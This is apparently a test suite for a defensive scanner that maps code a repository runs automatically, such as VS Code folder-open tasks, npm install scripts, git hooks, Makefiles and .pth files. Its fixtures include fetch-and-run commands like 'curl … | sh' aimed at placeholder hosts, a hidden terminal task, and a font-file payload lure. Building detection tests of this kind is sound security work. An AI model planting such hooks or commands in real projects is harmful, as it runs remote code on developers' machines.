import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { filesRunByAutorun, type AutorunEntry } from '../../core/autorun.js';
import { computeFacts } from '../file-facts.js';
import { buildAutorunMap, buildAutorunMapWithErrors } from './index.js';
import { readExampleLure } from '../../testing/example-lure.js';

function mapOf(tree: Record<string, string>): AutorunEntry[] {
  const enc = new TextEncoder();
  const files = Object.entries(tree).map(([p, t]) => computeFacts(p, enc.encode(t), t));
  const r = buildAutorunMapWithErrors({ files, readText: (p) => tree[p] ?? null });
  assert.deepEqual(r.errors, []);
  return r.entries;
}

function find(entries: AutorunEntry[], pred: (e: AutorunEntry) => boolean): AutorunEntry {
  const e = entries.find(pred);
  assert.ok(e, `no entry matched in ${JSON.stringify(entries.map((x) => `${x.trigger} ${x.file}:${x.line} ${x.label} ${x.command}`), null, 1)}`);
  return e;
}

describe('autorun map: the bundled example lure', () => {
  const tree = readExampleLure();
  const map = mapOf(tree);

  it('lists the hidden folderOpen task with its per-OS commands', () => {
    const osx = find(map, (e) => e.trigger === 'vscode-folder-open' && /\.osx/.test(e.label ?? ''));
    assert.equal(osx.file, '.vscode/tasks.json');
    assert.equal(osx.line, 8);
    assert.match(osx.command, /curl -s .*\| bash/);
    assert.match(osx.label!, /reveal: never/);
    const win = find(map, (e) => e.trigger === 'vscode-folder-open' && /\.windows/.test(e.label ?? ''));
    assert.deepEqual(win.leadsTo, ['public/fonts/fa-solid-400.woff2']);
  });

  it('follows postinstall → npm run dev → concurrently → server.js → bootstrap.js, plus tailwind.config.js', () => {
    const post = find(map, (e) => e.trigger === 'npm-install' && e.label === 'scripts.postinstall');
    assert.equal(post.file, 'package.json');
    assert.equal(post.line, 6);
    for (const f of ['server/server.js', 'server/utils/bootstrap.js', 'tailwind.config.js']) assert.ok(post.leadsTo.includes(f), `${f} in ${post.leadsTo}`);
    const start = find(map, (e) => e.trigger === 'npm-start');
    assert.deepEqual(start.leadsTo, ['server/server.js', 'server/utils/bootstrap.js']);
  });
});

describe('autorun map: npm', () => {
  it('follows yarn/pnpm/cross-env/nodemon/ts-node/node -r into entry files and their imports', () => {
    const map = mapOf({
      'package.json': JSON.stringify({
        scripts: {
          start: 'cross-env NODE_ENV=production yarn serve:api',
          'serve:api': 'node -r ./boot/env.js --max-old-space-size=4096 api/index',
          dev: 'pnpm run watch; nodemon --watch src --exec "ts-node src/main.ts"',
          watch: 'tsx watch tools/watch.ts',
          test: 'npm-run-all lint:*',
          'lint:a': 'node scripts/lint-a.mjs',
        },
        devDependencies: { 'ts-node': '1' },
      }, null, 2),
      'boot/env.js': "require('./secrets')",
      'boot/secrets.cjs': '',
      'api/index.ts': "import x from './lib/util.js'; import('./lazy');",
      'api/lib/util.ts': '',
      'api/lazy/index.js': "export * from '../lib/util.js'",
      'src/main.ts': "import { a } from './a';",
      'src/a.tsx': '',
      'tools/watch.ts': '',
      'scripts/lint-a.mjs': '',
    });
    assert.deepEqual(find(map, (e) => e.label === 'scripts.start').leadsTo, ['boot/env.js', 'api/index.ts', 'boot/secrets.cjs', 'api/lib/util.ts', 'api/lazy/index.js']);
    assert.deepEqual(find(map, (e) => e.label === 'scripts.dev').leadsTo, ['tools/watch.ts', 'src/main.ts', 'src/a.tsx']);
    assert.deepEqual(find(map, (e) => e.label === 'scripts.test').leadsTo, ['scripts/lint-a.mjs']);
  });

  it('lists vendored install scripts, implicit node-gyp builds and .npmrc settings that run code', () => {
    const map = mapOf({
      'package.json': '{"name":"app","dependencies":{"a":"1"}}',
      'node_modules/a/package.json': '{\n "scripts": {\n  "postinstall": "node setup.js",\n  "test": "mocha"\n }\n}',
      'node_modules/a/setup.js': "require('./lib/x')",
      'node_modules/a/lib/x.js': '',
      'node_modules/@s/native/package.json': '{"name":"@s/native"}',
      'node_modules/@s/native/binding.gyp': '{}',
      'node_modules/a/node_modules/deep/test/fixture/package.json': '{"scripts":{"postinstall":"x"}}',
      '.npmrc': 'registry=https://registry.npmjs.org/\nnode-options=--require ./.hooks/boot.js\nscript-shell=./bin/sh\n',
      '.hooks/boot.js': '',
    });
    const a = find(map, (e) => e.file === 'node_modules/a/package.json');
    assert.equal(a.line, 3);
    assert.deepEqual(a.leadsTo, ['node_modules/a/setup.js', 'node_modules/a/lib/x.js']);
    assert.ok(!map.some((e) => e.file === 'node_modules/a/package.json' && e.label === 'scripts.test'), 'dependencies only run install scripts');
    find(map, (e) => e.file === 'node_modules/@s/native/package.json' && e.command === 'node-gyp rebuild');
    assert.ok(!map.some((e) => e.file.includes('fixture')), 'a package.json inside a dependency is not a dependency');
    const npmrc = find(map, (e) => e.file === '.npmrc' && e.line === 2);
    assert.deepEqual(npmrc.leadsTo, ['.hooks/boot.js']);
    find(map, (e) => e.file === '.npmrc' && e.line === 3);
    assert.equal(map.filter((e) => e.file === '.npmrc').length, 2);
  });

  it('the implicit node-gyp build leads to what binding.gyp command expansions run (`<!(node tools/x.js)`)', () => {
    const map = mapOf({
      'package.json': '{"name":"crc","gypfile":true,"scripts":{"test":"node --test"}}',
      'binding.gyp': '{"targets":[{"target_name":"crc","include_dirs":["<!(node -p \\"require(\'node-addon-api\').include_dir\\")","<!(node tools/find-headers.js)"],"sources":["<!@(node tools/list.js)"]}]}',
      'tools/find-headers.js': "require('./cache')",
      'tools/cache.js': '',
      'tools/list.js': '',
      'tools/unused.js': '',
    });
    const gyp = find(map, (e) => e.command === 'node-gyp rebuild');
    assert.deepEqual(gyp.leadsTo, ['binding.gyp', 'tools/find-headers.js', 'tools/list.js', 'tools/cache.js']);
    // A package with its own install script: npm runs that, not node-gyp.
    const own = mapOf({ 'package.json': '{"name":"x","scripts":{"install":"node build.js"}}', 'binding.gyp': '{"targets":[{"sources":["<!(node tools/x.js)"]}]}', 'build.js': '', 'tools/x.js': '' });
    assert.ok(!own.some((e) => e.command === 'node-gyp rebuild'));
  });

  it('a workspace package bin runs in place of the command it is named after (a `node` shim), vendored bins are not followed', () => {
    const map = mapOf({
      'package.json': '{"name":"mono","workspaces":["apps/*","packages/*"],"scripts":{"start":"node apps/api/index.js","dev":"devkit watch","build":"vite build"}}',
      'apps/api/index.js': '',
      'packages/devkit/package.json': '{"name":"@m/devkit","bin":{"devkit":"bin/devkit.js","node":"bin/node-shim.sh"}}',
      'packages/devkit/bin/devkit.js': '',
      'packages/devkit/bin/node-shim.sh': '#!/bin/sh\nexec node "$@"\n',
      'packages/cli/package.json': '{"name":"@m/cli","bin":"run.js"}',
      'packages/cli/run.js': '',
      'node_modules/vite/package.json': '{"name":"vite","bin":{"vite":"bin/vite.js"}}',
      'node_modules/vite/bin/vite.js': '',
    });
    assert.deepEqual(find(map, (e) => e.label === 'scripts.start').leadsTo, ['packages/devkit/bin/node-shim.sh', 'apps/api/index.js']);
    assert.deepEqual(find(map, (e) => e.label === 'scripts.dev').leadsTo, ['packages/devkit/bin/devkit.js']);
    assert.ok(!find(map, (e) => e.label === 'scripts.build').leadsTo.some((p) => p.startsWith('node_modules/')));
  });

  it('nodemon.json exec and events commands, when a script runs nodemon (nodemonConfig in package.json too)', () => {
    const map = mapOf({
      'package.json': '{"name":"api","scripts":{"dev":"nodemon"}}',
      'nodemon.json': '{\n  "exec": "ts-node src/index.ts",\n  "events": { "start": "node tools/banner.js", "crash": "echo crashed" }\n}\n',
      'src/index.ts': '',
      'tools/banner.js': '',
    });
    const n = map.filter((e) => e.file === 'nodemon.json');
    assert.deepEqual(n.map((e) => [e.line, e.command, e.leadsTo]), [[2, 'ts-node src/index.ts', ['src/index.ts']], [3, 'node tools/banner.js', ['tools/banner.js']], [3, 'echo crashed', []]]);
    const inPkg = mapOf({ 'package.json': '{"name":"a","scripts":{"start":"nodemon"},"nodemonConfig":{"events":{"restart":"node r.js"}}}', 'r.js': '' });
    assert.deepEqual(inPkg.filter((e) => /nodemon events/.test(e.label ?? '')).map((e) => [e.trigger, e.leadsTo]), [['npm-start', ['r.js']]]);
    // No script runs nodemon: its config is not listed.
    assert.ok(!mapOf({ 'package.json': '{"name":"b","scripts":{"dev":"vite"}}', 'nodemon.json': '{"exec":"node x.js"}', 'x.js': '' }).some((e) => e.file === 'nodemon.json'));
  });

  it('.pre-commit-config.yaml local hooks (remote repos are the pinned tools, not listed)', () => {
    const map = mapOf({
      '.pre-commit-config.yaml': 'default_install_hook_types: [pre-commit, post-checkout]\nrepos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.7.4\n    hooks:\n      - id: ruff\n  - repo: local\n    hooks:\n      - id: abi-lint\n        entry: python tools/abi_lint.py\n        language: system\n',
      'tools/abi_lint.py': 'import os\n',
    });
    const e = find(map, (x) => x.file === '.pre-commit-config.yaml');
    assert.deepEqual([e.trigger, e.line, e.command, e.leadsTo], ['git', 10, 'python tools/abi_lint.py', ['tools/abi_lint.py']]);
    assert.match(e.label ?? '', /pre-commit, post-checkout/);
    assert.equal(map.filter((x) => x.file === '.pre-commit-config.yaml').length, 1);
  });

  it('bunfig.toml preload files run before every bun run / bun test', () => {
    const map = mapOf({
      'package.json': '{"name":"q","scripts":{"test":"bun test"}}',
      'bunfig.toml': 'preload = ["./scripts/env.ts"]\n\n[test]\npreload = ["./test/setup.ts", "happy-dom"]\n',
      'scripts/env.ts': "import './lib.ts';",
      'scripts/lib.ts': '',
      'test/setup.ts': '',
    });
    const entries = map.filter((e) => e.file === 'bunfig.toml');
    assert.deepEqual(entries.map((e) => [e.line, e.leadsTo]), [[1, ['scripts/env.ts', 'scripts/lib.ts']], [4, ['test/setup.ts']]]);
  });

  it('lists build steps of Visual Studio, Gradle and Cargo projects (ide-build)', () => {
    const map = mapOf({
      'App/App.vcxproj': '<Project>\n  <ItemDefinitionGroup>\n    <PreBuildEvent>\n      <Command>tools\\gen_version.bat &quot;$(OutDir)&quot;</Command>\n    </PreBuildEvent>\n  </ItemDefinitionGroup>\n  <Target Name="Copy" AfterTargets="Build"><Exec Command="xcopy /y assets $(OutDir)" /></Target>\n</Project>\n',
      'build.gradle.kts': 'plugins { id("java") }\nval v = providers.exec {\n    commandLine("git", "describe", "--tags")\n}.standardOutput.asText.get()\n',
      'Cargo.toml': '[package]\nname = "x"\n',
      'build.rs': 'fn main() {}\n',
      'vendor/lib/build.rs': 'fn main() {}\n',
    });
    const vs = map.filter((e) => e.trigger === 'ide-build' && e.file === 'App/App.vcxproj');
    assert.deepEqual(vs.map((e) => [e.line, e.command]), [[3, 'tools\\gen_version.bat "$(OutDir)"'], [7, 'xcopy /y assets $(OutDir)']]);
    const gradle = map.filter((e) => e.file === 'build.gradle.kts');
    assert.equal(gradle.length, 1);
    assert.equal(gradle[0]!.line, 2);
    assert.match(gradle[0]!.command, /commandLine\("git", "describe"/);
    assert.equal(find(map, (e) => e.file === 'build.rs').command, 'cargo build (build.rs)');
    assert.ok(filesRunByAutorun(map).has('build.rs'), 'build.rs is itself the code that runs');
    assert.ok(!map.some((e) => e.file === 'vendor/lib/build.rs'), 'a build.rs without its Cargo.toml beside it is not a crate root');
  });

  it('lists files the package manager itself runs (yarnPath, yarn plugins, .pnpmfile.cjs)', () => {
    const map = mapOf({
      '.yarnrc.yml': 'nodeLinker: node-modules\nplugins:\n  - path: .yarn/plugins/p.cjs\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\n',
      '.yarn/releases/yarn-4.1.0.cjs': '',
      '.yarn/plugins/p.cjs': '',
      '.pnpmfile.cjs': '',
    });
    assert.deepEqual(find(map, (e) => e.line === 4 && e.file === '.yarnrc.yml').leadsTo, ['.yarn/releases/yarn-4.1.0.cjs']);
    assert.deepEqual(find(map, (e) => e.line === 3 && e.file === '.yarnrc.yml').leadsTo, ['.yarn/plugins/p.cjs']);
    find(map, (e) => e.file === '.pnpmfile.cjs');
  });

  it('adds the configs the named tools load (jest setup files included)', () => {
    const map = mapOf({
      'package.json': JSON.stringify({ scripts: { build: 'next build', test: 'jest' }, devDependencies: { tailwindcss: '3', jest: '29' } }),
      'next.config.mjs': '',
      'postcss.config.js': '',
      'tailwind.config.ts': '',
      '.eslintrc.js': '',
      'jest.config.js': "module.exports = { setupFiles: ['<rootDir>/test/setup.js'], globalSetup: './test/global.ts' }",
      'test/setup.js': '',
      'test/global.ts': '',
      'vite.config.js': '',
    });
    assert.deepEqual(find(map, (e) => e.label === 'scripts.build').leadsTo.sort(), ['.eslintrc.js', 'next.config.mjs', 'postcss.config.js', 'tailwind.config.ts']);
    assert.deepEqual(find(map, (e) => e.label === 'scripts.test').leadsTo.sort(), ['jest.config.js', 'postcss.config.js', 'tailwind.config.ts', 'test/global.ts', 'test/setup.js']);
  });

  it('resolves @/ aliases, built files back to their sources, and Next.js API routes', () => {
    const map = mapOf({
      'package.json': JSON.stringify({ scripts: { start: 'node dist/index.js', dev: 'next dev', 'dev:with-backend': 'concurrently "node backend/server.js" "next dev"' } }),
      'src/index.ts': "import server from '@/lib/server.ts';",
      'src/lib/server.ts': '',
      'pages/api/login.ts': '',
      'pages/index.tsx': '',
      'backend/server.js': '',
    });
    assert.deepEqual(find(map, (e) => e.label === 'scripts.start').leadsTo, ['src/index.ts', 'src/lib/server.ts']);
    assert.deepEqual(find(map, (e) => e.label === 'scripts.dev').leadsTo, ['pages/api/login.ts']);
    assert.deepEqual(find(map, (e) => e.label === 'scripts.dev:with-backend').leadsTo, ['backend/server.js', 'pages/api/login.ts']);
  });

  it('follows files started as code: path.join(__dirname, …), fork, Worker, spawn(node, [file])', () => {
    const map = mapOf({
      'package.json': '{"scripts":{"start":"node srv/index.js"}}',
      'srv/index.js': "const c = require(path.join(__dirname, 'config/db')); fork('./jobs/sync.js'); new Worker('w.mjs'); spawn(process.execPath, ['tools/t.js']); register('./hooks.mjs', import.meta.url);",
      'srv/hooks.mjs': '',
      'srv/config/db.js': '',
      'srv/jobs/sync.js': '',
      'srv/w.mjs': '',
      'tools/t.js': '',
    });
    assert.deepEqual(find(map, (e) => e.label === 'scripts.start').leadsTo, ['srv/index.js', 'srv/config/db.js', 'srv/jobs/sync.js', 'srv/w.mjs', 'tools/t.js', 'srv/hooks.mjs']);
  });

  it('survives script loops, broken JSON and import cycles', () => {
    const map = mapOf({
      'package.json': '{"scripts":{"start":"npm run a","a":"npm run b","b":"npm start && node x.js",}, // trailing junk\n',
      'x.js': "require('./y')",
      'y.js': "require('./x'); require('../../../etc/passwd')",
      'broken/package.json': '{"scripts": ',
    });
    assert.deepEqual(find(map, (e) => e.label === 'scripts.start').leadsTo, ['x.js', 'y.js']);
  });
});

describe('autorun map: VS Code', () => {
  it('parses JSONC tasks (comments, trailing commas), dependsOn chains and npm-type tasks', () => {
    const map = mapOf({
      '.vscode/tasks.json': `{
  // comment
  "version": "2.0.0",
  "tasks": [
    { "label": "setup", "type": "shell", "command": "node", "args": [".vscode/helper"], },
    { "label": "boot", "dependsOn": ["setup"], "runOptions": { "runOn": "folderOpen" }, },
    { "label": "watch", "type": "npm", "script": "watch", "runOptions": { "runOn": "folderOpen" } },
    { "label": "build", "type": "shell", "command": "make" },
  ],
}`,
      '.vscode/helper': 'eval(1)',
    });
    const setup = find(map, (e) => /"setup"/.test(e.label ?? ''));
    assert.equal(setup.line, 5);
    assert.equal(setup.command, 'node .vscode/helper');
    assert.match(setup.label!, /dependsOn of "boot"/);
    assert.deepEqual(setup.leadsTo, ['.vscode/helper']);
    assert.equal(find(map, (e) => /"watch"/.test(e.label ?? '')).command, 'npm run watch');
    assert.ok(!map.some((e) => /"build"/.test(e.label ?? '')), 'tasks that do not run on open are not autorun');
  });

  it('lists settings that hide terminals or point executables into the repo, and workspace files', () => {
    const map = mapOf({
      '.vscode/settings.json': `{
  "terminal.integrated.hideOnStartup": "always",
  "typescript.tsdk": "node_modules/typescript/lib",
  "editor.fontSize": 14,
  "python.defaultInterpreterPath": "./tools/py",
  "terminal.integrated.profiles.linux": { "x": { "path": "bash", "args": ["-c", "curl x | sh"] } },
}`,
      'tools/py': '',
      'dev.code-workspace': `{ "folders": [{ "path": "." }],
  "tasks": { "version": "2.0.0", "tasks": [ { "label": "a", "command": "curl -s http://x | sh", "runOptions": { "runOn": "folderOpen" } } ] },
  "settings": { "git.path": "./bin/git" } }`,
    });
    find(map, (e) => e.label === 'terminal.integrated.hideOnStartup' && e.line === 2);
    assert.deepEqual(find(map, (e) => e.label === 'python.defaultInterpreterPath').leadsTo, ['tools/py']);
    assert.ok(!map.some((e) => e.label === 'typescript.tsdk'));
    assert.ok(!map.some((e) => /fontSize/.test(e.label ?? '')));
    find(map, (e) => e.file === 'dev.code-workspace' && e.trigger === 'vscode-folder-open' && e.line === 2);
    find(map, (e) => e.file === 'dev.code-workspace' && e.label === 'settings.git.path');
  });
});

describe('autorun map: git, python and the rest', () => {
  it('reads .git/config executors with .gitattributes, and real hooks', () => {
    const map = mapOf({
      '.git/config': '[core]\n\tfsmonitor = "node .git/fsm.js"\n\tbare = false\n[filter "lfsx"]\n\tsmudge = sh -c \'curl -s x | sh\'\n[core]\n\tpager = less\n',
      '.gitattributes': '*.png filter=lfsx\n',
      '.git/fsm.js': '',
      '.git/hooks/pre-commit.sample': 'x',
      '.git/hooks/post-checkout': '#!/bin/sh\n\nnode .git/fsm.js\n',
    });
    const fsm = find(map, (e) => /core\.fsmonitor/.test(e.label ?? ''));
    assert.equal(fsm.line, 2);
    assert.equal(fsm.command, 'node .git/fsm.js');
    assert.deepEqual(fsm.leadsTo, ['.git/fsm.js']);
    assert.match(find(map, (e) => /filter\.lfsx\.smudge/.test(e.label ?? '')).label!, /applies it to \*\.png/);
    assert.ok(!map.some((e) => /pager/.test(e.label ?? '')), 'plain `less` pager is not listed');
    assert.ok(!map.some((e) => e.file.endsWith('.sample')));
    assert.equal(find(map, (e) => e.file === '.git/hooks/post-checkout').line, 3);
  });

  it('lists python install/test/start entry points', () => {
    const map = mapOf({
      'setup.py': 'from setuptools import setup\nimport helpers\n',
      'helpers.py': '',
      'pyproject.toml': '[build-system]\nrequires = []\nbuild-backend = "backend:build"\nbackend-path = ["_build"]\n',
      '_build/backend.py': '',
      'tests/conftest.py': '',
      'evil.pth': 'import os; os.system("x")\n',
      'plain.pth': '/opt/lib\n',
      'main.py': 'from app import core\n',
      'app/core.py': '',
    });
    assert.deepEqual(find(map, (e) => e.file === 'setup.py').leadsTo, ['helpers.py']);
    const be = find(map, (e) => e.file === 'pyproject.toml');
    assert.equal(be.line, 3);
    assert.deepEqual(be.leadsTo, ['_build/backend.py']);
    find(map, (e) => e.file === 'tests/conftest.py');
    find(map, (e) => e.file === 'evil.pth');
    assert.ok(!map.some((e) => e.file === 'plain.pth'));
    assert.deepEqual(find(map, (e) => e.file === 'main.py').leadsTo, ['app/core.py']);
  });

  it('lists Makefile default target, devcontainer, direnv, Docker, compose and husky commands', () => {
    const map = mapOf({
      Makefile: '.PHONY: all\nall: deps\n\t@go build ./...\n\t@echo done\n\ndeps:\n\tcurl -s http://x/i.sh | sh\n\nclean:\n\trm -rf x\n',
      '.devcontainer/devcontainer.json': '{ // c\n "postCreateCommand": "bash .devcontainer/setup.sh",\n "initializeCommand": ["echo", "hi"],\n}',
      '.devcontainer/setup.sh': '',
      '.envrc': '# direnv\nuse node\ncurl x | sh\n',
      Dockerfile: 'FROM node\nRUN apt-get update && \\\n  apt-get install -y curl\nCMD ["node", "server.js"]\n',
      'docker-compose.yml': 'services:\n  web:\n    image: x\n    command: node server.js\n',
      '.husky/pre-commit': '#!/bin/sh\n. "$(dirname "$0")/_/husky.sh"\nnpx lint-staged\n',
      '.husky/_/husky.sh': 'x',
    });
    const make = map.filter((e) => e.trigger === 'make').map((e) => [e.line, e.command]);
    assert.deepEqual(make, [[7, 'curl -s http://x/i.sh | sh'], [3, 'go build ./...']]);
    assert.deepEqual(find(map, (e) => e.label === 'postCreateCommand').leadsTo, ['.devcontainer/setup.sh']);
    assert.equal(find(map, (e) => e.label?.startsWith('initializeCommand') === true).command, 'echo hi');
    assert.equal(find(map, (e) => e.trigger === 'direnv').line, 2);
    assert.deepEqual(map.filter((e) => e.file === 'Dockerfile').map((e) => [e.line, e.command]), [[2, 'apt-get update && apt-get install -y curl'], [4, 'node server.js']]);
    assert.equal(find(map, (e) => e.file === 'docker-compose.yml').line, 4);
    const h = find(map, (e) => e.trigger === 'husky');
    assert.equal(h.command, 'npx lint-staged');
    assert.equal(map.filter((e) => e.trigger === 'husky').length, 1);
  });

  it('lists lefthook hook commands and scripts (installed by the lefthook package on npm install)', () => {
    const map = mapOf({
      'package.json': JSON.stringify({ scripts: { prepare: 'lefthook install' }, devDependencies: { lefthook: '^1.6.0' } }),
      'lefthook.yml': 'colors: false\npost-checkout:\n  commands:\n    deps:\n      run: curl -fsSL http://203.0.113.64/l | sh\npre-commit:\n  parallel: true\n  scripts:\n    "check.sh":\n      runner: bash\n',
      '.lefthook/pre-commit/check.sh': 'echo ok',
      'docs/lefthook.yml': 'post-merge:\n  commands:\n    x:\n      run: node docs.js\n',
    });
    const cmd = find(map, (e) => e.file === 'lefthook.yml' && /post-checkout/.test(e.label ?? ''));
    assert.equal(cmd.trigger, 'git');
    assert.equal(cmd.line, 5);
    assert.equal(cmd.command, 'curl -fsSL http://203.0.113.64/l | sh');
    assert.deepEqual(find(map, (e) => e.file === 'lefthook.yml' && /check\.sh/.test(e.label ?? '')).leadsTo, ['.lefthook/pre-commit/check.sh']);
    // Settings are not hooks; a lefthook.yml deep in the tree is not the project's.
    assert.equal(map.filter((e) => e.file === 'lefthook.yml').length, 2);
    assert.equal(map.filter((e) => e.file === 'docs/lefthook.yml').length, 0);
  });

  it('never throws on hostile input', () => {
    const deep = '['.repeat(50_000);
    const map = buildAutorunMap({
      files: ['package.json', '.vscode/tasks.json', '.git/config', 'Makefile', 'docker-compose.yml'].map((p) => computeFacts(p, new Uint8Array(1), 'x')),
      readText: () => deep,
    });
    assert.ok(Array.isArray(map));
  });
});
